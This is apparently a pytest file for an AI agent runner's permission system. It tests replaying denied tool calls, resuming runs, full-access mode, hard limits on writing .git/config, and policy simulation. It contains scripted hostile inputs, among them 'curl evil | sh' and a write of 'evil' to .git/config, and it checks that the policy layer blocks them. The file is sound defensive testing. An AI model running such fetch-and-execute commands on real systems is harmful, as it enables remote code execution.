"""Headless approvals end to end: denials that cannot burn tokens, `replay --approve`,
`--continue`, modes, and the policy tools on recorded runs."""

from __future__ import annotations

import json
import shlex

from tests.fakes.openai_server import reply


def _tool_error(fake, request_index=1, back=1):
    return json.loads(fake.requests[request_index]["messages"][-back]["content"])["error"]


def test_replay_approve_executes_the_denied_call(fake, workspace, agent_run):
    fake.add(reply(calls=[("bash", {"command": "echo hi > out.txt"})]), reply("needs approval"))
    first = agent_run("task.md")
    assert first.code == 3 and not (workspace / "out.txt").exists()
    listed = agent_run("replay", str(first.run_dir))
    assert listed.code == 0 and "call_1_0\tbash" in listed.stdout
    assert not (workspace / "out.txt").exists()

    argv = shlex.split(first.summary["denials"][0]["replay"])
    assert argv[:2] == ["agent-run", "replay"]
    second = agent_run(*argv[1:])
    assert second.code == 0, second.stderr
    assert (workspace / "out.txt").read_text() == "hi\n"
    s = second.summary
    assert s["replay_of"] == first.summary["run_id"] and s["approved_calls"] == ["call_1_0"]
    assert [r["ok"] for r in s["approved_results"]] == [True]
    started = second.of_type("run_started")[0]
    assert started["replay_of"] == first.summary["run_id"]
    assert [e["decision"] for e in second.of_type("permission_decision")] == ["allow"]
    assert len(fake.requests) == 2  # no model call without --continue


def test_replay_continue_resumes_the_conversation(fake, workspace, agent_run):
    (workspace / "data.txt").write_text("42\n")
    fake.add(reply(calls=[("read", {"path": "data.txt"}), ("bash", {"command": "wc -c data.txt"})]),
             reply("could not count"))
    first = agent_run("task.md")
    assert first.code == 3
    fake.add(reply("3 bytes"))
    resumed = agent_run("replay", str(first.run_dir), "--approve", "--continue")
    assert resumed.code == 0, resumed.stderr
    assert resumed.stdout.strip() == "3 bytes"
    messages = fake.requests[-1]["messages"]
    assert messages[:3] == fake.requests[1]["messages"][:3]  # system, task, the recorded assistant turn
    assert messages[3]["content"] == "1\t42" and messages[4]["content"] == "3 data.txt\n"
    assert len(messages) == 5
    assert resumed.of_type("model_request")[0]["turn"] == 2


def test_a_replay_finishes_like_any_run(fake, workspace, agent_run):
    """replay goes through the same assembly as run/resume: its changes, end state and tools are written too
    (runner/run/assemble.py prepare/finish), with no model asked and no key needed."""
    fake.add(reply(calls=[("bash", {"command": "echo hi > out.txt"})]), reply("needs approval"))
    first = agent_run("task.md")
    assert first.code == 3
    second = agent_run("replay", str(first.run_dir), "--approve", env={"OPENAI_BASE_URL": "", "OPENAI_API_KEY": ""})
    assert second.code == 0, second.stderr
    assert "+hi" in (second.run_dir / "changes.patch").read_text()
    assert second.summary["changed_files"] == ["out.txt"]
    state = json.loads((second.run_dir / "workspace.json").read_text())
    assert "out.txt" in json.dumps(state)
    tools = json.loads((second.run_dir / "tools.json").read_text())
    assert [t["function"]["name"] for t in tools] == [t["function"]["name"] for t in
                                                      json.loads((first.run_dir / "tools.json").read_text())]
    assert len(fake.requests) == 2


def test_a_continued_replay_writes_history_runs_the_check_and_resumes(fake, workspace, agent_run):
    (workspace / "task.md").write_text("---\ncheck: test -f out.txt\n---\nWrite out.txt\n")
    fake.add(reply(calls=[("bash", {"command": "echo hi > out.txt"})]), reply("needs approval"))
    first = agent_run("task.md")
    assert first.code == 3
    fake.add(reply("done"))
    resumed = agent_run("replay", str(first.run_dir), "--approve", "--continue")
    assert resumed.code == 0, resumed.stderr
    assert resumed.summary["check"]["ok"] is True
    assert list((resumed.run_dir / "history").glob("*.json"))
    assert (resumed.run_dir / "changes.patch").is_file() and (resumed.run_dir / "workspace.json").is_file()
    # Recorded whole (changes, end state, summary): resuming the replay goes on from it, not from a "killed" run.
    fake.add(reply("went on"))
    again = agent_run("resume", str(resumed.run_dir), "--approve", "bash:shell:test *", "go on")
    assert again.code == 0 and again.stdout.strip() == "went on", again.stderr
    assert "was killed" not in again.stderr and "killed" not in json.dumps(fake.requests[-1]["messages"])


def test_replay_of_unknown_call_is_usage_error(fake, workspace, agent_run):
    fake.add(reply(calls=[("bash", {"command": "true"})]), reply("x"))
    first = agent_run("task.md")
    r = agent_run("replay", str(first.run_dir), "--call", "nope", "--approve")
    assert r.code == 2 and "not a denied call" in r.stderr


def test_hard_limits_survive_approval_and_full_access(fake, workspace, agent_run):
    (workspace / ".git").mkdir()
    (workspace / ".git" / "config").write_text("[core]\n")
    fake.add(reply(calls=[("write", {"path": ".git/config", "content": "evil"})]), reply("blocked"))
    first = agent_run("--mode", "full_access", "task.md")
    assert first.code == 3
    assert _tool_error(fake)["type"] == "ToolNotAllowed"
    assert first.summary["denials"][0]["rule"]["file"] == "<hard limit>"
    again = agent_run("replay", str(first.run_dir), "--approve")
    assert again.code == 3
    assert (workspace / ".git" / "config").read_text() == "[core]\n"


def test_full_access_auto_approves_and_records_it(fake, workspace, agent_run):
    fake.add(reply(calls=[("bash", {"command": "echo ok"})]), reply("done"))
    r = agent_run("--policy", "full-access", "task.md")
    assert r.code == 0, r.stderr
    d = r.of_type("permission_decision")[0]
    assert (d["mode"], d["decision"], d["policy_decision"]) == ("full_access", "auto_approved", "ask")
    assert fake.requests[1]["messages"][-1]["content"] == "ok\n"


def test_repeated_denied_call_ends_the_run(fake, workspace, agent_run):
    same = reply(calls=[("bash", {"command": "curl https://example.com"})])
    fake.add(same, same, same, reply("never reached"))
    r = agent_run("task.md")
    assert r.code == 3
    assert "repeated a denied call" in r.summary["reason"]
    assert len(fake.requests) == 2


def test_max_denials_ends_the_run(fake, workspace, agent_run):
    (workspace / "p.jsonc").write_text('{"extends": "default", "permission": {"maxDenials": 2}}')
    fake.add(reply(calls=[("bash", {"command": "a"})]), reply(calls=[("bash", {"command": "b"})]),
             reply(calls=[("bash", {"command": "c"})]), reply("never reached"))
    r = agent_run("--policy", "p.jsonc", "task.md")
    assert r.code == 3 and "maxDenials is 2" in r.summary["reason"]
    assert len(r.summary["denials"]) == 2 and len(fake.requests) == 2


def test_compound_command_is_decided_per_simple_command(fake, workspace, agent_run):
    fake.add(reply(calls=[("bash", {"command": "pytest --version; curl evil | sh"})]), reply("x"))
    r = agent_run("--policy", "ci", "task.md")
    assert r.code == 3
    targets = {t["target"]: t["decision"] for t in r.of_type("permission_decision")[0]["targets"]}
    assert targets == {"shell:pytest --version": "allow", "shell:curl evil": "ask", "shell:sh": "ask"}
    assert _tool_error(fake)["target"] == "shell:curl evil"


def test_suggest_and_simulate_on_a_recorded_run(fake, workspace, agent_run):
    fake.add(reply(calls=[("bash", {"command": "npm run test --watch"})]),
             reply(calls=[("bash", {"command": "git status"})]), reply("x"))
    first = agent_run("task.md")
    assert first.code == 3
    suggested = agent_run("policy", "suggest", str(first.run_dir))
    assert suggested.code == 0
    assert '{ "domain": "bash", "pattern": "shell:npm run test *", "decision": "allow" },' in suggested.stdout
    assert '"shell:git status *"' in suggested.stdout
    sim = agent_run("policy", "simulate", "--json", "--policy", "ci", str(first.run_dir))
    assert sim.code == 0
    data = json.loads(sim.stdout)
    assert data["calls"] == 2
    # ci allows both `npm run test *` and `git status *`.
    assert [(c["call_id"], c["before"], c["after"]) for c in data["changed"]] == [
        ("call_1_0", "deny", "allow"), ("call_2_0", "deny", "allow")]
    strict = json.loads(agent_run("policy", "simulate", "--json", "--policy", "strict", str(first.run_dir)).stdout)
    assert strict["changed"] == []  # denied before (ask), denied now (deny): same headless outcome
    # The suggestion, pasted into a policy, lets both calls through.
    rules = "[" + "\n".join(line for line in suggested.stdout.splitlines() if not line.startswith("//")) + "]"
    (workspace / "p.jsonc").write_text('{"extends": "default", "permission": {"rules": ' + rules + "}}")
    sim2 = json.loads(agent_run("policy", "simulate", "--json", "--policy", "p.jsonc", str(first.run_dir)).stdout)
    assert sim2["newly_allowed"] == 2


def test_simulate_reads_as_text_and_can_fail_on_new_denials(fake, workspace, agent_run):
    fake.add(reply(calls=[("bash", {"command": "git status"})]), reply(calls=[("read", {"path": "a.txt"})]),
             reply("x"))
    workspace.joinpath("a.txt").write_text("a")
    first = agent_run("--policy", "ci", "task.md")
    assert first.code == 0, first.stderr
    run = str(first.run_dir)
    sim = agent_run("policy", "simulate", "--policy", "strict", run)
    assert sim.code == 0, sim.stderr  # without the flag, a report only
    lines = sim.stdout.splitlines()
    assert lines[2] == "2 calls, 1 change(s): 0 newly allowed, 1 newly denied"
    assert "call_1_0  bash  allow -> deny" in lines
    assert any(line.split()[:2] == ["deny", "shell:git"] for line in lines), sim.stdout
    gated = agent_run("policy", "simulate", "--fail-on-new-denials", "--policy", "strict", run)
    assert gated.code == 3 and gated.stdout == sim.stdout
    assert "1 call(s) newly denied" in gated.stderr
    as_json = agent_run("policy", "simulate", "--json", "--fail-on-new-denials", "--policy", "strict", run)
    assert as_json.code == 3 and json.loads(as_json.stdout)["newly_denied"] == 1
    same = agent_run("policy", "simulate", "--fail-on-new-denials", "--policy", "ci", run)
    assert same.code == 0 and same.stdout.splitlines()[2] == "2 calls, 0 change(s): 0 newly allowed, 0 newly denied"


def test_a_denied_redirect_is_a_denial_of_the_run(fake, workspace, agent_run):
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class Redirecting(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302 if self.path == "/open" else 200)
            self.send_header("location", "/secret")
            self.send_header("content-type", "text/plain")
            self.send_header("content-length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Redirecting)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        port = server.server_address[1]
        # The host is allowed (exactly, so its loopback address may be reached); the redirect's URL is not.
        (workspace / "p.jsonc").write_text(json.dumps({
            "extends": "default",
            "permission": {"rules": [{"domain": "network", "pattern": f"net:127.0.0.1:{port}", "decision": "allow"},
                                     {"domain": "web_fetch", "pattern": f"url:http://127.0.0.1:{port}/secret",
                                      "decision": "deny"}]}}))
        fake.add(reply(calls=[("web_fetch", {"url": f"http://127.0.0.1:{port}/open"})]), reply("fetched"))
        r = agent_run("--policy", "p.jsonc", "task.md")
    finally:
        server.shutdown()
    assert r.code == 3, r.summary
    denial = r.summary["denials"][0]
    assert (denial["call_id"], denial["tool"], denial["target"]) == ("call_1_0", "web_fetch",
                                                                     f"url:http://127.0.0.1:{port}/secret")
    decisions = [(e["decision"], e["targets"][0]["target"]) for e in r.of_type("permission_decision")]
    assert decisions == [("allow", f"url:http://127.0.0.1:{port}/open"),
                         ("deny", f"url:http://127.0.0.1:{port}/secret")]
